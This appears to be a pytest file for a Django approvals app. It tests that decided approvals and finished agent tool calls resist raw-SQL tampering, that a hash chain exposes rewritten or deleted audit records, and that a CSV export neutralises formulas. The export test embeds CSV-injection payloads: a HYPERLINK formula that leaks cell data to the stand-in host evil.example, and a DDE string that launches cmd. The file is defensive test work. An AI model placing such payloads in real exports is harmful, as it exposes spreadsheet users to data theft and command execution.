"""Findings 6 and 7: the audit cannot be rewritten unseen, and its CSV export runs no formulas.

Decided approvals and finished tool calls refuse raw SQL (triggers on every column and on DELETE);
a change made with the triggers dropped is evident: `verify_audit` names the first broken link of
the chain of decision hashes. The admin's export carries the hashes and neutralises formula cells.
"""
import csv
import io
from contextlib import contextmanager
from datetime import timedelta

import pytest
from django.contrib.auth.models import User
from django.core.management import call_command, execute_from_command_line
from django.core.management.base import CommandError
from django.db import DatabaseError, connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from approvals import audit
from approvals.audit import triggers
from approvals.models import Approval, PolicyVersion
from approvals.services import AlreadyDecided, approve_edited, decide, decide_many, expire_overdue
from chat import services
from chat.demo import ensure_demo_agent
from chat.models import ToolCall
from chat.triggers import install_finished_is_final
from tests.conftest import pending_approvals, start_conversation as start
from tests.approvals.services.test_races import race

pytestmark = pytest.mark.django_db(transaction=True)

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]


def run_sql(sql: str, params: list) -> None:
    """Raw SQL, as an attacker with the database would run it; in a savepoint, so a refusal leaves
    the test's connection usable on PostgreSQL."""
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute(sql, params)


@contextmanager
def triggers_dropped():
    """What the tables' owner can do: drop the triggers, change rows, make the triggers again."""
    triggers.uninstall(connection, table="approvals_approval", name="approvals_decided")
    triggers.uninstall(connection, table="chat_toolcall", name="chat_finished_call")
    try:
        yield
    finally:
        triggers.install_decided_is_final()
        install_finished_is_final()


def verify_audit() -> str:
    out = io.StringIO()
    call_command("verify_audit", stdout=out)
    return out.getvalue()


def broken_link(*args: str) -> str:
    with pytest.raises(CommandError) as broken:
        call_command("verify_audit", *args, stdout=io.StringIO())
    assert broken.value.returncode == 1
    return str(broken.value)


def decided_one(alice, agent, **decision) -> Approval:
    conversation = start(alice, agent, "write hi to a.txt")
    [approval] = pending_approvals(conversation)
    decide(approval.pk, user=alice, shown_hash=approval.shown_hash, **({"approve": False, "via": "chat", "reason": "no"} | decision))
    approval.refresh_from_db()
    return approval


def three_decisions(alice, agent) -> list[Approval]:
    conversation = start(alice, agent, "delete a.txt and b.txt")
    first, second = pending_approvals(conversation)
    decide(first.pk, user=alice, approve=False, via="chat", shown_hash=first.shown_hash, reason="keep a")
    decide(second.pk, user=alice, approve=False, via="chat", shown_hash=second.shown_hash, reason="keep b")
    decided_one(alice, agent)
    return list(Approval.objects.order_by("chain_position"))


# --- The database keeps decided approvals and finished calls -------------------------------------

# Each column the review rewrote, with a valid new value (so only the trigger can refuse it).
REWRITES = {
    "reason": "rewritten",
    "risk": "low",
    "approver_required": True,
    "expires_at": "2999-01-01 00:00:00",
    "status": "approved",
    "rejection_reason": "rewritten",
    "decided_via": "api",
    "decision_hash": "0" * 64,
    "chain_position": 99,
}


@pytest.mark.parametrize("column", [*REWRITES, "requested_by_id"])
def test_a_decided_approvals_column_cannot_be_rewritten(alice, mallory, agent, column):
    approval = decided_one(alice, agent)
    value = mallory.pk if column == "requested_by_id" else REWRITES[column]

    with pytest.raises(DatabaseError, match="a decided approval is final"):
        run_sql(f"UPDATE approvals_approval SET {column} = %s WHERE id = %s", [value, approval.pk])

    stored = Approval.objects.get(pk=approval.pk)
    assert (stored.reason, stored.risk, stored.requested_by_id, stored.decision_hash) == (
        approval.reason, approval.risk, alice.pk, approval.decision_hash
    )


def test_no_column_of_a_decided_approval_can_be_updated(alice, agent):
    approval = decided_one(alice, agent)

    for field in Approval._meta.concrete_fields:  # even to the value it holds
        with pytest.raises(DatabaseError, match="a decided approval is final"):
            run_sql(f"UPDATE approvals_approval SET {field.column} = {field.column} WHERE id = %s", [approval.pk])


def test_a_decided_approval_cannot_be_deleted(alice, agent):
    approval = decided_one(alice, agent)

    with pytest.raises(DatabaseError, match="a decided approval is never deleted"):
        run_sql("DELETE FROM approvals_approval WHERE id = %s", [approval.pk])
    with pytest.raises(DatabaseError, match="never deleted"):
        run_sql("DELETE FROM approvals_approval", [])

    assert Approval.objects.filter(pk=approval.pk).exists()


def test_a_pending_approval_still_changes(alice, agent):
    conversation = start(alice, agent, "write hi to a.txt")
    [approval] = pending_approvals(conversation)

    run_sql("UPDATE approvals_approval SET reason = %s WHERE id = %s", ["edited while pending", approval.pk])

    approval.refresh_from_db()
    assert approval.reason == "edited while pending"


def test_a_finished_tool_calls_arguments_cannot_be_rewritten(alice, agent):
    approval = decided_one(alice, agent)
    call = ToolCall.objects.get(pk=approval.tool_call_id)
    assert call.status == ToolCall.Status.REJECTED

    with pytest.raises(DatabaseError, match="a finished tool call is final"):
        run_sql("UPDATE chat_toolcall SET arguments = %s WHERE id = %s", ['{"path": "evil.txt"}', call.pk])
    for field in ToolCall._meta.concrete_fields:
        with pytest.raises(DatabaseError, match="a finished tool call is final"):
            run_sql(f"UPDATE chat_toolcall SET {field.column} = {field.column} WHERE id = %s", [call.pk])
    with pytest.raises(DatabaseError, match="a finished tool call is never deleted"):
        run_sql("DELETE FROM chat_toolcall WHERE id = %s", [call.pk])

    stored = ToolCall.objects.get(pk=call.pk)
    assert (stored.arguments, stored.status) == (call.arguments, call.status)


def test_a_call_that_has_not_finished_still_moves_on(alice, agent):
    conversation = start(alice, agent, "write hi to a.txt")
    [approval] = pending_approvals(conversation)

    run_sql("UPDATE chat_toolcall SET status = %s WHERE id = %s", [ToolCall.Status.APPROVED, approval.tool_call_id])

    assert ToolCall.objects.get(pk=approval.tool_call_id).status == ToolCall.Status.APPROVED


def test_flush_still_empties_the_database(alice, agent):
    decided_one(alice, agent)

    call_command("flush", interactive=False, verbosity=0)

    assert not Approval.objects.exists() and not ToolCall.objects.exists()
    approval = decided_one(User.objects.create_user("zoe"), ensure_demo_agent())
    with pytest.raises(DatabaseError, match="never deleted"):  # and the triggers are back
        run_sql("DELETE FROM approvals_approval WHERE id = %s", [approval.pk])


# --- The chain of decision hashes -----------------------------------------------------------------


def test_every_kind_of_decision_extends_one_intact_chain(alice, bob, agent):
    first, second = pending_approvals(start(alice, agent, "delete a.txt and b.txt"))
    decide(first.pk, user=alice, approve=True, via="chat", shown_hash=first.shown_hash)
    decide(second.pk, user=bob, approve=False, via="dashboard", shown_hash=second.shown_hash, reason="keep b")
    bulk = pending_approvals(start(alice, agent, "delete c.txt and d.txt"))
    decide_many({a.pk: a.shown_hash for a in bulk}, user=alice, approve=False, via="dashboard", reason="not today")
    [edited] = pending_approvals(start(alice, agent, "write hello to notes.txt"))
    approve_edited(
        edited.pk, user=alice, arguments={"path": "other.txt", "content": "hello"}, via="chat", shown_hash=edited.shown_hash
    )
    stopped = start(alice, agent, "delete e.txt and f.txt")
    services.stop_conversation(conversation=stopped, user=alice, via="chat")
    agent.approval_timeout_seconds = 1
    agent.save()
    swept = pending_approvals(start(alice, agent, "write one to g.txt"))
    expire_overdue(now=timezone.now() + timedelta(seconds=2))
    [late] = pending_approvals(start(alice, agent, "write two to h.txt"))
    Approval.objects.filter(pk=late.pk).update(expires_at=timezone.now() - timedelta(seconds=1))
    with pytest.raises(AlreadyDecided):  # it expires as the decision comes in
        decide(late.pk, user=alice, approve=True, via="chat", shown_hash=late.shown_hash)

    chain = list(Approval.objects.order_by("chain_position"))
    versions = list(PolicyVersion.objects.order_by("chain_position"))  # the agent made, then its timeout set
    assert not Approval.objects.filter(status="pending").exists() and len(swept) == 1 and len(versions) == 2
    links = sorted(chain + versions, key=lambda link: link.chain_position)
    assert [link.chain_position for link in links] == list(range(1, 12))
    assert [link.previous_hash for link in links] == [audit.GENESIS] + [link.decision_hash for link in links[:-1]]
    assert {a.status for a in chain} == {"approved", "rejected", "cancelled", "expired"}
    assert verify_audit().splitlines()[0] == "audit chain intact: 11 decisions"


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE approvals_approval SET reason = 'rewritten' WHERE id = %s",
        "UPDATE approvals_approval SET rejection_reason = 'rewritten' WHERE id = %s",
        "UPDATE approvals_approval SET risk = 'low' WHERE id = %s",
        "UPDATE approvals_approval SET expires_at = '2999-01-01 00:00:00' WHERE id = %s",
        "UPDATE approvals_approval SET status = 'approved' WHERE id = %s",
        "UPDATE approvals_approval SET decision_hash = '" + "f" * 64 + "' WHERE id = %s",
        "UPDATE approvals_approval SET previous_hash = '" + "f" * 64 + "' WHERE id = %s",
    ],
)
def test_a_change_behind_the_triggers_is_the_first_broken_link(alice, agent, sql):
    first, second, third = three_decisions(alice, agent)

    with triggers_dropped():
        run_sql(sql, [second.pk])

    assert f"audit chain broken at approval #{second.pk} (link 3)" in broken_link()  # link 1: the agent's policy version


def test_a_rewritten_hash_breaks_the_next_link(alice, agent):
    first, second, third = three_decisions(alice, agent)
    second.reason = "rewritten"
    forged = audit.decision_hash(second)  # rehashed to match its new content

    with triggers_dropped():
        rewrite = "UPDATE approvals_approval SET reason = 'rewritten', decision_hash = %s WHERE id = %s"
        run_sql(rewrite, [forged, second.pk])

    assert f"audit chain broken at approval #{third.pk} (link 4): it does not follow" in broken_link()


def test_a_removed_decision_is_a_missing_link(alice, agent):
    first, second, third = three_decisions(alice, agent)

    with triggers.erasing():
        Approval.objects.filter(pk=second.pk).delete()

    assert f"audit chain broken at approval #{third.pk} (link 4): link 3 before it is missing" in broken_link()


def test_removing_the_newest_decision_shows_only_against_a_head_kept_elsewhere(alice, agent):
    first, second, third = three_decisions(alice, agent)
    kept_head = verify_audit().splitlines()[1].removeprefix("head: ")
    assert kept_head == f"4:{third.decision_hash}"

    with triggers.erasing():
        Approval.objects.filter(pk=third.pk).delete()

    assert verify_audit().splitlines()[0] == "audit chain intact: 3 decisions"  # the limit of an unkeyed chain
    assert "link 4 is missing: the chain ends at 3" in broken_link("--expect", kept_head)


def test_a_decision_made_around_the_services_breaks_the_chain(alice, agent):
    three_decisions(alice, agent)
    [bypass] = pending_approvals(start(alice, agent, "write hi to b.txt"))

    Approval.objects.filter(pk=bypass.pk).update(status="approved", decided_at=timezone.now(), decided_by=alice)

    assert f"audit chain broken at approval #{bypass.pk}: it is decided but not in the chain" in broken_link()


def test_verify_audit_exits_non_zero_on_a_broken_chain(alice, agent, capsys):
    first, second, third = three_decisions(alice, agent)
    execute_from_command_line(["manage.py", "verify_audit"])
    assert "audit chain intact: 4 decisions" in capsys.readouterr().out  # and the agent's policy version

    with triggers_dropped():
        run_sql("UPDATE approvals_approval SET risk = 'low' WHERE id = %s", [first.pk])
    with pytest.raises(SystemExit) as exited:
        execute_from_command_line(["manage.py", "verify_audit"])

    assert exited.value.code == 1
    assert f"audit chain broken at approval #{first.pk} (link 2)" in capsys.readouterr().err


def test_deciders_at_once_never_fork_the_chain(alice, bob, agent):
    conversations = [start(alice, agent, "delete a.txt and b.txt") for _ in range(3)]
    (a, b), (c, d) = (pending_approvals(conversation) for conversation in conversations[:2])

    results = race(
        lambda: decide(a.pk, user=alice, approve=True, via="chat", shown_hash=a.shown_hash),
        lambda: decide(b.pk, user=bob, approve=False, via="dashboard", shown_hash=b.shown_hash, reason="no"),
        lambda: decide_many({c.pk: c.shown_hash, d.pk: d.shown_hash}, user=bob, approve=False, via="dashboard").decided,
        lambda: services.stop_conversation(conversation=conversations[2], user=alice, via="chat"),
    )

    assert not [r for r in results if isinstance(r, Exception)], results
    assert [a.chain_position for a in Approval.objects.order_by("chain_position")] == [2, 3, 4, 5, 6, 7]  # 1: the agent's version
    assert verify_audit().splitlines()[0] == "audit chain intact: 7 decisions"


def test_a_bulk_decision_costs_the_same_queries_for_any_number_of_approvals(alice, agent):
    few = pending_approvals(start(alice, agent, "delete a.txt and b.txt"))
    texts = ("delete c.txt and d.txt", "delete e.txt and f.txt", "delete g.txt and h.txt")
    many = [a for text in texts for a in pending_approvals(start(alice, agent, text))]

    counts = []
    for approvals in (few, many):
        # The outer transaction holds back what the decision sets off on commit (the loop).
        with transaction.atomic(), CaptureQueriesContext(connection) as queries:
            decide_many({a.pk: a.shown_hash for a in approvals}, user=alice, approve=False, via="dashboard")
        counts.append(len(queries))

    assert counts[0] == counts[1]
    assert verify_audit().splitlines()[0] == "audit chain intact: 9 decisions"


# --- The admin's CSV export -----------------------------------------------------------------------


@pytest.fixture
def auditor(db):
    client = Client()
    client.force_login(User.objects.create_superuser("root", password="root-password"))
    return client


def exported(auditor) -> list[dict]:
    selected = list(Approval.objects.values_list("pk", flat=True))
    response = auditor.post("/admin/approvals/approval/", {"action": "export_csv", "_selected_action": selected})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("start_", FORMULA_STARTS)
def test_formula_cells_are_neutralised_in_the_export(auditor, alice, agent, start_):
    conversation = start(alice, agent, "write hi to a.txt")
    [approval] = pending_approvals(conversation)
    payload = f"{start_}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    Approval.objects.filter(pk=approval.pk).update(reason=payload)  # pending: the policy's text, say
    decide(approval.pk, user=alice, approve=False, via="chat", shown_hash=approval.shown_hash, reason=f"{start_}cmd|' /C calc'!A0")

    [row] = exported(auditor)

    assert row["reason"] == "'" + payload
    if start_ not in "\t\r":  # a reason is stripped when stored
        assert row["rejection_reason"] == f"'{start_}cmd|' /C calc'!A0"
    assert not [cell for cell in row.values() if cell.startswith(tuple(FORMULA_STARTS))]


def test_the_export_carries_the_chain(auditor, alice, agent):
    first, second, third = three_decisions(alice, agent)

    rows = {int(row["id"]): row for row in exported(auditor)}

    for approval in (first, second, third):
        row = rows[approval.pk]
        assert (row["chain_position"], row["previous_hash"], row["decision_hash"]) == (
            str(approval.chain_position), approval.previous_hash, approval.decision_hash
        )
